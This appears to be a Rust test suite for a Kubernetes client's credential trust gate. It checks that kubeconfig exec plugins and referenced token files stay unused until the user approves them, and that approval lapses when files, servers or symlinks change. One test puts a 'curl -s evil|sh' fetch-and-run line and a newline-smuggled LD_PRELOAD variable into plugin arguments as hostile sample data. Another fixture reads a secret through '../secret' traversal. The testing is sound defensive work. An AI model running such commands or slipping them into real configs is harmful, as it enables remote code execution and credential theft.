//! Does nothing run and is nothing sent until the user said so, and nothing else after it changed?

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use api::contexts::{Asked, Mood, Trust as Said};
use cluster::credentials::CredentialError;
use cluster::dial::Dial as _;
use cluster::failure::LinkError;
use cluster::trust::{InMemory, Policy, Trust, TrustError};
use kubeconfig::sources::Part;
use kubeconfig::target::{Header, Proxy, Target, Tls, TokenFile};
use secret::Secret;
use tools::Programs;

use crate::fakes::{Machine, Ran, credential, endless, gated_network, plugin, with_header};
use crate::server::{LIMIT, Server, healthy};
use crate::tls::{Authority, Flaw, ask};

struct Scene {
    machine: Arc<Machine>,
    trust: Arc<Trust>,
    entry: Target,
    folder: Arc<tempfile::TempDir>,
}

fn scene(policy: Policy) -> Scene {
    let folder = Arc::new(tempfile::tempdir().unwrap());
    let program = folder.path().join("login");
    std::fs::write(&program, "first").unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let Header::Plugin(mut entry) = plugin() else { panic!() };
    entry.command = program;
    let entry = with_header("https://127.0.0.1:1", Header::Plugin(entry));
    let machine = Machine::new(|_| credential("t0k"));
    let trust = Arc::new(Trust::new(Arc::clone(&machine) as Arc<dyn Programs>, Arc::new(InMemory::default()), policy, "/home/jo".into()));
    Scene { machine, trust, entry, folder }
}

impl Scene {
    /// The same program by the same arguments, for another profile.
    fn of_profile(&self, name: &str) -> Self {
        let mut entry = self.entry.clone();
        let Header::Plugin(plugin) = &mut entry.identity.header else { panic!() };
        plugin.env = vec![("AWS_PROFILE".into(), Secret::new(name))];
        self.with(entry)
    }

    /// The same user, in another context.
    fn elsewhere(&self, change: impl FnOnce(&mut Target)) -> Self {
        let mut entry = self.entry.clone();
        change(&mut entry);
        self.with(entry)
    }

    fn with(&self, entry: Target) -> Self {
        Self { machine: self.machine.clone(), trust: self.trust.clone(), entry, folder: self.folder.clone() }
    }

    /// Signs in anew: what an earlier run gave is not used.
    async fn dial(&self) -> Result<(), Arc<CredentialError>> {
        let network = gated_network(&self.machine, Arc::clone(&self.trust) as _, Duration::from_millis(500));
        match network.dial(&self.entry).await {
            Ok(_) => Ok(()),
            Err(LinkError::Credentials(why)) => Err(why),
            Err(other) => panic!("{other:?}"),
        }
    }

    fn replace_program(&self) {
        std::fs::write(Path::new(self.folder.path()).join("login"), "second").unwrap();
    }

    async fn answer(&self, said: Said) -> Result<(), TrustError> {
        let question = self.trust.question(&self.entry).await.unwrap();
        self.trust.answer(&self.entry, &question.seen, said).await
    }
}

#[tokio::test]
async fn nothing_runs_before_an_answer_not_even_to_describe_it() {
    let scene = scene(Policy::AllowAll);
    let question = scene.trust.question(&scene.entry).await.unwrap();
    assert_eq!((question.args.as_slice(), question.line, question.limit.0), (["token".to_owned()].as_slice(), 1, 60_000));
    assert!(matches!(&*scene.dial().await.unwrap_err(), CredentialError::Untrusted { .. }));
    assert_eq!(scene.machine.runs(), 0);
}

#[tokio::test]
async fn a_question_spells_what_would_run_so_that_no_line_hides_behind_another() {
    let scene = scene(Policy::AllowAll);
    let mut entry = scene.entry.clone();
    let Header::Plugin(plugin) = &mut entry.identity.header else { panic!() };
    plugin.command = "lo\tgin".into();
    plugin.args = vec!["-c".into(), "true # eks token\ncurl -s evil|sh".into(), format!("x{}y", " ".repeat(300))];
    plugin.env = vec![("LANG\nLD_PRELOAD".into(), Secret::new("x"))];
    let question = scene.trust.question(&entry).await.unwrap();
    assert_eq!(question.program, r"/bin/lo\tgin");
    assert_eq!(question.args, ["-c".to_owned(), r"true # eks token\ncurl -s evil|sh".to_owned(), format!("x{}y", "\u{b7}".repeat(300))]);
    assert_eq!(question.sets, [r"LANG\nLD_PRELOAD"]);
}

#[tokio::test]
async fn what_is_no_program_is_not_read_to_ask_about_it() {
    let scene = scene(Policy::AllowAll);
    for path in endless(scene.folder.path()) {
        let mut entry = scene.entry.clone();
        let Header::Plugin(plugin) = &mut entry.identity.header else { panic!() };
        plugin.command = path;
        let signs = scene.trust.question(&entry).await.unwrap().signs;
        assert!(signs.iter().any(|sign| sign.mood == Mood::Doubt && sign.title == "The program was not found"), "{signs:?}");
    }
}

#[tokio::test]
async fn an_allowed_program_runs_until_its_bytes_change() {
    for said in [Said::Always, Said::Once] {
        let scene = scene(Policy::AllowAll);
        scene.answer(said).await.unwrap();
        scene.dial().await.unwrap();
        scene.replace_program();
        assert!(matches!(&*scene.dial().await.unwrap_err(), CredentialError::Untrusted { .. }));
        assert_eq!(scene.machine.runs(), 1);
        let doubts = scene.trust.question(&scene.entry).await.unwrap().signs;
        let changed = doubts.iter().any(|sign| sign.mood == Mood::Doubt && sign.title == "The program changed since you allowed it");
        assert_eq!(changed, said == Said::Always);
    }
}

#[tokio::test]
async fn an_answer_to_a_question_of_before_a_change_is_not_taken() {
    let scene = scene(Policy::AllowAll);
    let question = scene.trust.question(&scene.entry).await.unwrap();
    scene.replace_program();
    assert!(matches!(scene.trust.answer(&scene.entry, &question.seen, Said::Always).await, Err(TrustError::Changed)));
}

#[tokio::test]
async fn never_holds() {
    let scene = scene(Policy::AllowAll);
    scene.answer(Said::Never).await.unwrap();
    assert!(matches!(&*scene.dial().await.unwrap_err(), CredentialError::Forbidden { .. }));
    assert_eq!(scene.machine.runs(), 0);
}

#[tokio::test]
async fn an_answer_for_one_profile_leaves_that_for_another_as_it_was() {
    let scene = scene(Policy::AllowAll);
    let (dev, prod, test) = (scene.of_profile("dev"), scene.of_profile("prod"), scene.of_profile("test"));
    dev.answer(Said::Always).await.unwrap();
    test.answer(Said::Never).await.unwrap();
    let signs = prod.trust.question(&prod.entry).await.unwrap().signs;
    assert!(!signs.iter().any(|sign| sign.title.contains("changed")), "{signs:?}");
    prod.answer(Said::Always).await.unwrap();
    dev.dial().await.unwrap();
    prod.dial().await.unwrap();
    assert!(matches!(&*test.dial().await.unwrap_err(), CredentialError::Forbidden { .. }));
}

#[tokio::test]
async fn an_answer_for_one_server_is_none_for_another_of_the_same_user() {
    let ways: [fn(&mut Target); 3] = [
        |entry| entry.server = "https://else.example:1".into(),
        |entry| entry.proxy = Proxy::Explicit("http://else.example:3128".into()),
        |entry| entry.tls = Tls::Verified { ca: None, server_name: None },
    ];
    for said in [Said::Always, Said::Once] {
        let here = scene(Policy::AllowAll);
        here.answer(said).await.unwrap();
        for other in ways.map(|change| here.elsewhere(change)) {
            assert!(matches!(&*other.dial().await.unwrap_err(), CredentialError::Untrusted { .. }));
            let read = here.trust.question(&here.entry).await.unwrap().seen;
            assert!(matches!(other.trust.answer(&other.entry, &read, said).await, Err(TrustError::Changed)), "it was asked about the first");
        }
        assert_eq!(here.machine.runs(), 0);
        let there = here.elsewhere(ways[0]);
        there.answer(said).await.unwrap();
        there.dial().await.unwrap();
        here.dial().await.unwrap();
    }
}

#[tokio::test]
async fn a_server_that_moved_to_another_port_is_not_asked_about_again() {
    for said in [Said::Always, Said::Once] {
        let scene = scene(Policy::AllowAll);
        scene.answer(said).await.unwrap();
        scene.elsewhere(|entry| entry.server = "https://127.0.0.1:2".into()).dial().await.unwrap();
    }
}

#[tokio::test]
async fn a_token_that_is_there_is_not_handed_to_a_server_that_nobody_allowed() {
    let here = scene(Policy::AllowAll);
    here.answer(Said::Always).await.unwrap();
    let network = gated_network(&here.machine, here.trust.clone(), Duration::from_millis(500));
    let _in_use = network.dial(&here.entry).await.unwrap();
    let moved = here.elsewhere(|entry| entry.server = "https://127.0.0.1:2".into());
    network.dial(&moved.entry).await.unwrap();
    let there = here.elsewhere(|entry| entry.server = "https://else.example:1".into());
    let refused = network.dial(&there.entry).await.err().unwrap();
    assert!(matches!(&refused, LinkError::Credentials(why) if matches!(&**why, CredentialError::Untrusted { .. })), "{refused:?}");
    assert_eq!(here.machine.runs(), 1, "one token serves one server, whatever its port");
}

#[tokio::test]
async fn kubectl_s_policy_is_stronger_than_an_answer() {
    for policy in [Policy::DenyAll { file: "kuberc".into() }, Policy::Allowlist { file: "kuberc".into(), commands: vec!["aws".into()] }] {
        let scene = scene(policy);
        scene.answer(Said::Always).await.unwrap();
        assert!(matches!(&*scene.dial().await.unwrap_err(), CredentialError::AgainstPolicy { policy, .. } if policy == "kuberc"));
        assert_eq!(scene.machine.runs(), 0);
    }
}

/// A home with a secret, and a kubeconfig in its Downloads that names that secret as the token for a server.
struct Received {
    home: tempfile::TempDir,
    server: Server,
    trust: Arc<Trust>,
    entry: Target,
}

async fn received(names: &str) -> Received {
    let home = tempfile::tempdir().unwrap();
    let downloads = home.path().join("Downloads");
    std::fs::create_dir(&downloads).unwrap();
    std::fs::write(home.path().join("secret"), "hunter2\n").unwrap();
    std::fs::write(home.path().join("other"), "hunter3\n").unwrap();
    let server = Server::secure(Authority::new().server(Flaw::None), |seen, _| healthy(seen)).await;
    let file = downloads.join("x.yaml").to_string_lossy().into_owned();
    let named = TokenFile { path: downloads.join(names), fallback: Some(Secret::new("inline")), file: file.into(), line: 7, part: Part::Alone };
    let entry = with_header(&format!("https://{}", server.address), Header::TokenFile(named));
    let programs = Machine::new(|_| Ran::Missing) as Arc<dyn Programs>;
    let trust = Arc::new(Trust::new(programs, Arc::new(InMemory::default()), Policy::AllowAll, home.path().to_owned()));
    Received { home, server, trust, entry }
}

impl Received {
    /// Opens it as if for the first time.
    async fn ask(&self, entry: &Target) -> Result<u16, Arc<CredentialError>> {
        let network = gated_network(&Machine::new(|_| Ran::Missing), self.trust.clone(), LIMIT);
        match ask(&network, entry).await {
            Ok(status) => Ok(status),
            Err(LinkError::Credentials(why)) => Err(why),
            Err(other) => panic!("{other:?}"),
        }
    }

    async fn answer(&self, said: Said) {
        let asked = self.trust.asked(&self.entry).await.unwrap();
        self.trust.answer(&self.entry, asked.seen(), said).await.unwrap();
    }

    fn sent(&self) -> Vec<String> {
        self.server.log().into_iter().map(|seen| seen.authorization).collect()
    }

    fn named(&mut self) -> &mut TokenFile {
        let Header::TokenFile(named) = &mut self.entry.identity.header else { panic!() };
        named
    }
}

#[tokio::test]
async fn a_secret_that_a_received_kubeconfig_names_is_sent_only_after_an_answer() {
    for said in [Said::Once, Said::Always] {
        let received = received("../secret").await;
        let asked = received.ask(&received.entry).await.unwrap_err();
        let secret = received.home.path().canonicalize().unwrap().join("secret");
        assert_eq!(*asked, CredentialError::UntrustedFile { path: secret.display().to_string() });
        let Asked::TokenFile(question) = received.trust.asked(&received.entry).await.unwrap() else { panic!() };
        assert_eq!((question.path, question.asked_by.as_str(), question.line), (secret.display().to_string(), "~/Downloads/x.yaml", 7));
        assert!(received.sent().is_empty(), "neither the file nor what stands beside it is sent before an answer");
        received.answer(said).await;
        assert_eq!(received.ask(&received.entry).await.unwrap(), 200);
        assert_eq!(received.sent(), ["Bearer hunter2"]);
    }
}

#[tokio::test]
async fn an_answer_is_for_one_file_and_one_destination_and_never_is_never() {
    let mut scene = received("link").await;
    let link = scene.home.path().join("Downloads/link");
    std::os::unix::fs::symlink("../secret", &link).unwrap();
    scene.answer(Said::Always).await;
    assert_eq!(scene.ask(&scene.entry).await.unwrap(), 200);
    let elsewhere = Target { server: "https://else.example:1".into(), ..scene.entry.clone() };
    assert!(matches!(&*scene.ask(&elsewhere).await.unwrap_err(), CredentialError::UntrustedFile { .. }));
    let read = scene.trust.asked(&scene.entry).await.unwrap();
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink("../other", &link).unwrap();
    assert!(matches!(&*scene.ask(&scene.entry).await.unwrap_err(), CredentialError::UntrustedFile { .. }));
    assert!(matches!(scene.trust.answer(&scene.entry, read.seen(), Said::Always).await, Err(TrustError::FileChanged)));
    scene.answer(Said::Never).await;
    assert!(matches!(&*scene.ask(&scene.entry).await.unwrap_err(), CredentialError::ForbiddenFile { .. }));
    assert_eq!(scene.sent(), ["Bearer hunter2"]);
    scene.named().part = Part::OfKubectl;
    assert_eq!(scene.ask(&scene.entry).await.unwrap(), 200, "kubectl would send it too");
}

#[tokio::test]
async fn a_token_that_came_with_its_kubeconfig_is_sent_without_a_question() {
    let scene = received("token").await;
    std::fs::write(scene.home.path().join("Downloads/token"), "t0k").unwrap();
    assert_eq!(scene.ask(&scene.entry).await.unwrap(), 200);
    assert!(matches!(scene.trust.asked(&scene.entry).await, Err(TrustError::NoQuestion { .. })));
    assert_eq!(scene.sent(), ["Bearer t0k"]);
}
